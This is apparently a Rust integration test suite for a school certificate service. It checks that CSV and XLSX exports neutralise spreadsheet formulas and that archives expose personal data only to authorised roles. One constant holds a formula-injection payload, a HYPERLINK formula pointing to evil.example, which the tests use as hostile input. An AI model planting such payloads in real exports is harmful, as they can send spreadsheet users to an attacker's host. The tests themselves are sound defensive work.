//! Issue 22: what leaves the server in spreadsheets. Point 6: every CSV and XLSX cell that a
//! spreadsheet program would run as a formula is neutralised by the one writer all exports use.

#![allow(clippy::expect_used, reason = "test code: a failed setup step should fail the test loudly")]

use reqwest::Method;
use serde_json::json;
use tests::pipeline::{candidate, file_and_acknowledge, new_plan, review, setup};

const EVIL: &str = "=HYPERLINK(\"http://evil.example/?x\",\"点击\")";

#[tokio::test]
async fn a_candidate_named_like_a_formula_is_exported_as_text() {
    let s = setup("2026-11-02").await;
    let plan = new_plan(&s, "2026-12-15").await;
    let mut evil = candidate(1);
    evil["name"] = json!(EVIL);
    evil["class_name"] = json!("+1+1");
    for c in [evil, candidate(2)] {
        let a = s
            .app
            .json(Method::POST, &format!("/api/v1/plans/{plan}/candidates"), Some(&s.school.token), &c)
            .await;
        assert_eq!(a.status.as_u16(), 201, "{}", a.text);
    }
    file_and_acknowledge(&s, &plan).await;
    review(&s, &plan).await;
    let school = s.app.login("school1", "a-long-password-1").await;
    let a = s
        .app
        .json(Method::POST, &format!("/api/v1/plans/{plan}/certificates"), Some(&school), &json!({}))
        .await;
    assert_eq!(a.status.as_u16(), 201, "{}", a.text);

    let csv = s.app.get(&format!("/api/v1/plans/{plan}/certificates/export?format=csv"), Some(&school)).await;
    assert_eq!(csv.status.as_u16(), 200, "{}", csv.text);
    // The csv crate quotes the cell (it holds quotes); inside, the text starts with the apostrophe.
    assert!(
        csv.text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"点击\"\")\""),
        "{}",
        csv.text
    );
    for line in csv.text.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a live formula in {line:?}");
        }
    }

    let xlsx = s
        .app
        .send(
            s.app
                .request(Method::GET, &format!("/api/v1/plans/{plan}/certificates/export?format=xlsx"))
                .bearer_auth(&school),
        )
        .await;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx.bytes)).expect("an XLSX is a zip");
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut archive.by_name("xl/worksheets/sheet1.xml").expect("sheet"),
        &mut sheet,
    )
    .expect("xml");
    assert!(sheet.contains(">'=HYPERLINK(&quot;http://evil.example/?x&quot;"), "{sheet}");
    assert!(!sheet.contains(">=HYPERLINK"), "{sheet}");
}

/// Every file of a ZIP, by name.
fn unzip(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a zip");
    (0..z.len())
        .map(|i| {
            let mut f = z.by_index(i).expect("entry");
            let mut data = Vec::new();
            std::io::Read::read_to_end(&mut f, &mut data).expect("read");
            (f.name().expect("name").into_owned(), data)
        })
        .collect()
}

/// Issue 22, point 2: exports give each role what the JSON API gives it.
#[tokio::test]
async fn archives_and_exports_hold_personal_data_only_for_the_roles_that_see_it() {
    let s = setup("2026-11-02").await;
    let plan = new_plan(&s, "2026-12-15").await;
    for c in [candidate(1), candidate(2)] {
        let a = s
            .app
            .json(Method::POST, &format!("/api/v1/plans/{plan}/candidates"), Some(&s.school.token), &c)
            .await;
        assert_eq!(a.status.as_u16(), 201, "{}", a.text);
    }
    let ids = tests::pipeline::candidate_ids(&s, &plan).await;
    let a = s
        .app
        .send(
            s.app
                .request(Method::PUT, &format!("/api/v1/plans/{plan}/candidates/{}/photo", ids[0]))
                .bearer_auth(&s.school.token)
                .header("Content-Type", "image/png")
                .body(tests::hostile::two_inch_png()),
        )
        .await;
    assert_eq!(a.status.as_u16(), 204, "{}", a.text);
    file_and_acknowledge(&s, &plan).await;
    review(&s, &plan).await;
    let school = s.app.login("school1", "a-long-password-1").await;
    let a = s
        .app
        .json(Method::POST, &format!("/api/v1/plans/{plan}/certificates"), Some(&school), &json!({}))
        .await;
    assert_eq!(a.status.as_u16(), 201, "{}", a.text);
    let admin = s.app.login("admin", tests::ADMIN_PASSWORD).await;
    s.app.create_user(&admin, "district.500101", "district", Some("500101")).await;
    let district = s.app.login("district.500101", "a-long-password-1").await;
    let centre = s.app.login("centre.plan", "a-long-password-1").await;
    let archive = |token: &str| {
        s.app.send(
            s.app
                .request(Method::GET, &format!("/api/v1/institutions/{}/archive?year=2026", s.institution))
                .bearer_auth(token),
        )
    };

    // A district office: no ID number, no mobile number and no photo anywhere in the archive.
    let a = archive(&district).await;
    assert_eq!(a.status.as_u16(), 200, "{}", a.text);
    for (name, data) in unzip(&a.bytes) {
        assert!(!name.contains("/photos/"), "a photo for a district office: {name}");
        let found = tests::personal_data(&String::from_utf8_lossy(&data));
        assert!(found.is_empty(), "{name} holds {found:?}");
    }
    // The centre: candidates and certificates in full (as in the API), the filing's people masked,
    // and nobody sees where an objection came from.
    let files = unzip(&archive(&centre).await.bytes);
    for (name, data) in &files {
        let found = tests::personal_data(&String::from_utf8_lossy(data));
        let allowed = name.ends_with("/candidates.json") || name.ends_with("/certificates.json");
        assert!(allowed || found.is_empty(), "{name} holds {found:?} for the centre");
        if name.ends_with("/candidates.json") {
            assert!(!found.is_empty(), "the centre sees candidates' ID numbers, as in the API");
        }
        assert!(!String::from_utf8_lossy(data).contains("client_key"), "{name}");
    }
    assert!(files.iter().any(|(n, _)| n.contains("/photos/")), "the centre has the photos");

    // Statistics exports hold no personal data, for any role that may take them.
    for token in [&admin, &centre, &district] {
        for format in ["csv", "xlsx"] {
            let a = s
                .app
                .send(
                    s.app
                        .request(
                            Method::GET,
                            &format!(
                                "/api/v1/statistics/certificates?group_by=institution,level&format={format}"
                            ),
                        )
                        .bearer_auth(token),
                )
                .await;
            assert_eq!(a.status.as_u16(), 200, "{}", a.text);
            let text = if format == "csv" {
                a.text.clone()
            } else {
                unzip(&a.bytes).into_iter().map(|(_, d)| String::from_utf8_lossy(&d).into_owned()).collect()
            };
            assert!(tests::personal_data(&text).is_empty(), "{text}");
        }
    }

    // Exports with full ID numbers name who took what in the audit log.
    let csv = s.app.get(&format!("/api/v1/plans/{plan}/certificates/export?format=csv"), Some(&centre)).await;
    assert_eq!(csv.status.as_u16(), 200);
    let zip = s
        .app
        .send(
            s.app
                .request(Method::GET, &format!("/api/v1/plans/{plan}/certificates.zip"))
                .bearer_auth(&school),
        )
        .await;
    assert_eq!(zip.status.as_u16(), 200);
    // Written as it is read (issue 22, point 9): no length known in advance, and a whole ZIP.
    assert_eq!(zip.header("content-length"), None, "streamed, not built whole first");
    assert_eq!(zip.header("transfer-encoding"), Some("chunked"));
    let pdfs = unzip(&zip.bytes);
    assert_eq!(pdfs.len(), 2);
    assert!(pdfs.iter().all(|(n, d)| n.ends_with(".pdf") && d.starts_with(b"%PDF-")));
    let events = s.app.get("/api/v1/audit-events?action=certificates.exported", Some(&admin)).await;
    let items = events.body["items"].as_array().expect("items");
    let who: Vec<(String, String)> = items
        .iter()
        .map(|e| {
            (
                e["actor"]["username"].as_str().unwrap_or("").to_owned(),
                e["summary"]["format"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    assert!(who.contains(&("centre.plan".to_owned(), "csv".to_owned())), "{who:?}");
    assert!(who.contains(&("school1".to_owned(), "pdf_zip".to_owned())), "{who:?}");
    let archived = s.app.get("/api/v1/audit-events?action=archive.exported", Some(&admin)).await;
    let full: Vec<bool> = archived.body["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|e| e["summary"]["full_id_numbers"].as_bool().unwrap_or(true))
        .collect();
    assert!(full.contains(&false) && full.contains(&true), "{full:?}");

    // One e-certificate's PDF shows the full ID number: its download is recorded too.
    let listed = s.app.get(&format!("/api/v1/plans/{plan}/certificates"), Some(&school)).await;
    let code = listed.body["items"][0]["code"].as_str().expect("a certificate code").to_owned();
    let pdf = s
        .app
        .send(s.app.request(Method::GET, &format!("/api/v1/certificates/{code}/pdf")).bearer_auth(&school))
        .await;
    assert_eq!(pdf.status.as_u16(), 200);
    let events = s
        .app
        .get(&format!("/api/v1/audit-events?action=certificate.downloaded&target_id={code}"), Some(&admin))
        .await;
    let items = events.body["items"].as_array().expect("items");
    assert_eq!(items.len(), 1, "{}", events.text);
    assert_eq!(items[0]["actor"]["username"], "school1");
    assert_eq!(items[0]["summary"]["full_id_numbers"], true);
}
